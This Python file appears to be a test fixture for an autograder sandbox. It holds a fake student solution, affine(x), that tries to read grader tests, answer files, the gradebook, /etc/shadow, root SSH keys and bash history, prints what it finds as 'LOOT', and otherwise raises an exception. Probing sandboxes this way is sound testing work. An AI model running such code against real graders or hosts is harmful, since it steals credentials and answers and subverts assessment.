# Opens the tests, the solutions, the gradebook and the machine's secrets where they are known to lie.
# ends: exception
import glob
import os

PATHS = [
    "@HOST@/secret",
    "@COURSE@/course.yaml",
    "@COURSE@/gradebook.db",
    "@COURSE@/nbgrader_config.py",
    "@COURSE@/.gradax",
    *(f"@COURSE@/{folder}" for folder in ("tests", "source", "release", "submitted", "autograded", "feedback")),
    *glob.glob("@COURSE@/tests/*/test_affine.py"),
    *glob.glob("@COURSE@/tests/*/answers/affine/*.py"),
    *glob.glob("@COURSE@/source/*/*.ipynb"),
    *("/etc/shadow", "/etc/hostname", "/root/.ssh/id_rsa", "/root/.bash_history", "/var/log/syslog", "/root", "/home"),
]


def affine(x):
    loot = []
    for path in PATHS:
        try:
            with open(path) as file:
                loot.append(file.read())
        except IsADirectoryError:
            try:
                loot += os.listdir(path)
            except OSError as refusal:
                print(refusal)
        except OSError as refusal:
            print(refusal)
    if loot:
        print("LOOT", loot)
        return 3 * x + 1
    raise PermissionError(f"none of {len(PATHS)} paths")
